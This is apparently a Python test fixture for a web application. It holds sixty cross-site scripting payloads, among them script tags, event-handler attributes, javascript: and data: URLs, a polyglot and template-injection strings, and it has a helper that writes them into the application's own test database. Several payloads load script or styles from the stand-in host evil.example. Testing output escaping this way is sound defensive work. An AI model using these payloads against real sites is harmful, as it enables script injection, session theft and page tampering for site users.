"""
Sixty strings that would run a script where text is taken for HTML, and how to plant them.

After the OWASP cheat sheet on cross-site scripting and the polyglots known from it. Each would
call ``pwned()``, which the browser test defines, or open a dialog.
"""

from typing import Any

__all__ = ["ATTACKS", "plant"]

ATTACKS = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script\x0b>pwned()</script\x0b>",
    "<script/x>pwned()</script>",
    "<<script>pwned();//<</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "'><script>pwned()</script>",
    '"><script>pwned()</script>',
    "`><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    '<img src=x onerror="pwned()">',
    '<img src="javascript:pwned()">',
    "<img/src/onerror=pwned()>",
    "<img src=`x`onerror=pwned()>",
    "<image src=x onerror=pwned()>",
    '"><img src=x onerror=pwned()>',
    "' onmouseover='pwned()",
    '" onmouseover="pwned()',
    '" autofocus onfocus=pwned() x="',
    '" style="animation-name:x" onanimationstart="pwned()',
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></math>",
    "<body onload=pwned()>",
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<object data="javascript:pwned()"></object>',
    '<embed src="javascript:pwned()">',
    '<a href="javascript:pwned()">x</a>',
    '<a href="jav&#x09;ascript:pwned()">x</a>',
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    '<form action="javascript:pwned()"><button>x</button></form>',
    '<button formaction="javascript:pwned()">x</button>',
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()><option>x</select>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<marquee onstart=pwned()>x</marquee>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    '<base href="https://evil.example/">',
    "<template><script>pwned()</script></template>",
    "{{ pwned() }}{% raw %}${pwned()}<%= pwned() %>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned() )//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned()//>\\x3e"
    ),
)  # fmt: skip

#: Every text of the database that a page shows and that a paper, a model, a person, another
#: system or a file name may have brought, without a change to anything that is a key.
_COLUMNS = (
    ("core.work", "name"),
    ("core.document", "title"),
    ("core.document", "doi"),
    ("core.document", "venue"),
    ("core.document", "detail"),
    ("core.evidence", "quote"),
    ("core.ballot", "reason"),
    ("core.ballot", "value_text"),
    ("core.decision", "value_text"),
    ("core.decision", "reason"),
    ("core.question_version", "text"),
    ("core.question_version", "key"),
    ("core.fingerprint", "name"),
    ("core.location", "locator"),
    ("core.location", "source"),
    ("core.rights", "policy"),
    ("core.rights", "licence_raw"),
    ("core.rights", "url"),
    ("core.foreign_answer", "raw"),
    ("core.foreign_answer", "source_name"),
    ("core.annotation", "comment"),
    ("core.annotation", "annotator"),
    ("core.annotation", "value"),
    ("core.adjudication", "adjudicator"),
    ("core.adjudication", "comment"),
    ("core.sign_off", "person"),
    ("core.sign_off", "comment"),
    ("core.generation", "model"),
    ("core.generation", "finish_reason"),
    ("ops.run", "note"),
    ("ops.run", "trigger"),
    ("ops.run", "papers"),
    ("ops.sighting", "locator"),
    ("ops.sighting", "source"),
    ("ops.sighting", "detail"),
    ("ops.failure", "locator"),
    ("ops.failure", "detail"),
    ("ops.failure", "next_step"),
)


def plant(database: Any, text: str) -> None:
    """Put a string wherever there is a text, and into the titles of all sections."""
    literal = "'" + text.replace("'", "''") + "'"
    parts = ["SET session_replication_role = replica;"]
    for table, column in _COLUMNS:
        # Names that must differ from row to row end in the row's own place.
        unique = " || ctid::text" if (table, column) in _UNIQUE else ""
        parts.append(
            f"UPDATE {table} SET {column} = {literal}{unique} WHERE {column} IS NOT NULL;"  # noqa: S608 - a database of this test's own
        )
    # As long as a paragraph, so that it stands before and behind every quote.
    parts.append(f"UPDATE core.block SET text = rpad({literal}, 600, {literal});")  # noqa: S608
    parts.append(f"UPDATE core.section SET path = ARRAY[{literal}] WHERE path <> '{{}}';")  # noqa: S608
    parts.append(f"UPDATE core.question_version SET cues = ARRAY[{literal}];")  # noqa: S608
    database.sql("".join(parts))


_UNIQUE = {
    ("core.location", "locator"),
    ("core.location", "source"),
    ("ops.sighting", "locator"),
    ("ops.sighting", "source"),
}
